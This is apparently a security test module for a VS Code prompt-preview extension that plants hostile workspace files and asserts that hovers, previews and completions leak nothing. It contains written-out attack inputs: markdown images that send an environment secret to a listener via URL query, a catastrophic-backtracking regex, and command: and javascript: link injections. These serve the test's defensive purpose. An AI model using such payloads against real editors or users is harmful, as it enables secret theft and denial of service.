// What a hostile workspace tries in the user's window: to reach the network through a hover, to run a command, to hang the server.
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import path from 'node:path';

const limit = { timeout: 20_000 };
const secret = 'preflight-secret-value';

/**
 * Puts hostile files into a workspace and listens where they would send something.
 * @returns the window as the runner takes it; `close` ends the listener
 */
export async function hostileWindow(folder, settings) {
  let calls = 0;
  // No HTTP: VS Code lets only https images through, and whoever calls has called.
  const listener = createServer((socket) => {
    calls++;
    socket.destroy();
  });
  await new Promise((resolve) => listener.listen(0, '127.0.0.1', () => resolve(undefined)));
  const { port } = /** @type {import('node:net').AddressInfo} */ (listener.address());
  const host = `https://127.0.0.1:${port}`;
  writeHostileFiles(folder, host);
  writeControl(path.join(folder, '..', 'control'), host);
  const reached = (workbench) => ({ calls, requests: workbench.requests.filter((url) => isForeign(url, workbench.page.url())) });
  return {
    folder,
    file: 'hostile/leak.py',
    settings,
    development: path.join(folder, '..', 'control'),
    environment: { PREFLIGHT_SECRET: secret },
    steps: stepsFor(Boolean(settings['security.workspace.trust.enabled']), reached),
    close: () => new Promise((resolve) => listener.close(resolve)),
  };
}

/** The workbench itself asks its server, a service worker of its own for the files of webviews, and the marketplace about extensions. */
function isForeign(url, own) {
  const { protocol, host } = new URL(url);
  return (
    protocol.startsWith('http') &&
    host !== new URL(own).host &&
    host !== 'open-vsx.org' &&
    !host.endsWith('.vscode-resource.vscode-cdn.net')
  );
}

function writeHostileFiles(folder, host) {
  const image = `'![a](${host}/name)'`;
  const leak = `'![a](${host}/leak?k=' + os.environ.get('PREFLIGHT_SECRET', '') + ')'`;
  const files = {
    'leak.py': `import os
image = ${image}
leak = ${leak}
models = [dict(
    type='HuggingFaceCausalLM',
    abbr=name,
    meta_template=dict(
        reserved_roles=[dict(role='SYSTEM')],
        round=[dict(role='HUMAN'), dict(role=name)],
    ),
) for name in [image, leak]]
image_datasets = [dict(
    abbr=name,
    reader_cfg=dict(input_columns=['q'], output_column='a'),
    infer_cfg=dict(
        prompt_template=dict(
            type='PromptTemplate',
            template=dict(round=[dict(role='HUMAN', prompt=name)]),
        ),
        retriever=dict(type='ZeroRetriever'),
        inferencer=dict(type='GenInferencer'),
    ),
) for name in [image, leak]]
datasets = image_datasets
`,
    'bomb.py': `import re
models = [dict(type='x', abbr='bomb')]
found = re.search(r'^(\\d{1,12}[,.]?){1,12}$', '1' * 40 + 'x')
`,
    'control.txt': 'control\n',
  };
  write(path.join(folder, 'hostile'), files);
}

/** An extension whose hovers have an image. */
function writeControl(folder, host) {
  const manifest = {
    name: 'control',
    publisher: 'control',
    version: '0.0.1',
    engines: { vscode: '^1.100.0' },
    main: './main.js',
    activationEvents: ['onLanguage:plaintext'],
    capabilities: { untrustedWorkspaces: { supported: true } },
  };
  const main = `const { Hover, languages, MarkdownString } = require('vscode');
exports.activate = () => languages.registerHoverProvider('plaintext', { provideHover: () => new Hover(new MarkdownString('![a](${host}/control)')) });
`;
  write(folder, { 'package.json': JSON.stringify(manifest), 'main.js': main });
}

function write(folder, files) {
  mkdirSync(folder);
  for (const [name, text] of Object.entries(files)) writeFileSync(path.join(folder, name), text);
}

function stepsFor(restricted, reached) {
  return {
    'the window trusts the folder, or does not': async (workbench, { assert }) => {
      const mark = workbench.page.locator('.statusbar-item', { hasText: 'Restricted Mode' });
      if (restricted) await mark.waitFor(limit);
      else assert.equal(await mark.count(), 0);
    },

    'hovers, the preview and completions ask the network for nothing': async (workbench, { assert, screenshot }) => {
      await workbench.command('Prompt Preflight: Preview Prompt');
      await workbench.preview.locator('.turn', { hasText: '/name)' }).first().waitFor(limit);
      for (const text of ['HUMAN', 'SYSTEM', 'reserved_roles', 'abbr', 'HuggingFaceCausalLM']) {
        const hover = await workbench.hover(text);
        assert.equal(await hover.locator('img, a[data-href^="command:"]').count(), 0, `hover of ${text}`);
      }
      await screenshot(`hostile-hover-${restricted ? 'restricted' : 'trusted'}`);
      await workbench.clickBehind('reserved_roles');
      await workbench.page.keyboard.press('Control+Space');
      assert.deepEqual(reached(workbench), { calls: 0, requests: [] });
    },

    'the value of an environment variable is handed to no config': async (workbench, { assert }) => {
      // The page names all datasets and models, and the hover all models with the role.
      const page = await workbench.preview.locator('prompt-preview').evaluate((element) => element.shadowRoot.textContent);
      const hover = await (await workbench.hover('HUMAN')).innerText();
      for (const text of [page, hover]) assert.ok(!text.includes(secret), text);
    },

    'a message of the page opens documents only': async (workbench, { assert }) => {
      const start = { line: 0, character: 0 };
      const tabs = await workbench.page.locator('.tab').count();
      for (const uri of ['command:workbench.action.closeAllEditors', 'https://127.0.0.1:1/a.py', 'javascript:1']) {
        const link = { uri, range: { start, end: start }, label: '[name](command:workbench.action.closeAllEditors)' };
        await workbench.preview.locator('prompt-preview').evaluate((page, message) => page.host.post(message), { type: 'open', link });
        const notice = workbench.page.locator('.notification-toast', { hasText: 'cannot be opened' }).first();
        await notice.waitFor(limit);
        assert.equal(await notice.locator('.notification-list-item-message a').count(), 0);
        await workbench.command('Notifications: Clear All Notifications');
        await notice.waitFor({ state: 'detached', ...limit });
      }
      assert.equal(await workbench.page.locator('.tab').count(), tabs);
    },

    'an expression that never ends leaves hover and preview of other files working': async (workbench, { assert }) => {
      await workbench.open('bomb.py');
      await workbench.open('capitals_gen.py');
      await workbench.preview.locator('.seg', { hasText: 'Geography quiz' }).first().waitFor(limit);
      assert.match(await (await workbench.hover('infer_cfg')).innerText(), /infer_cfg/);
      await workbench.open('bomb.py');
      await workbench.command('Prompt Preflight: Restart Server');
      await workbench.open('capitals_gen.py');
      await workbench.clickBehind('capitals_datasets = []');
      await workbench.page.keyboard.type(' ');
      await workbench.preview.locator('.foot', { hasText: 'exact' }).waitFor(limit);
    },

    // Last, since the listener is called: without it nothing would tell a quiet network from a deaf listener.
    'an image in the hover of another extension does reach the listener': async (workbench, { assert }) => {
      await workbench.open('control.txt');
      await (await workbench.hover('control')).locator('img').waitFor(limit);
      await workbench.page.waitForTimeout(300);
      const { calls, requests } = reached(workbench);
      assert.ok(calls > 0 && requests.some((url) => url.endsWith('/control')), `${calls} calls, ${requests.join()}`);
    },
  };
}
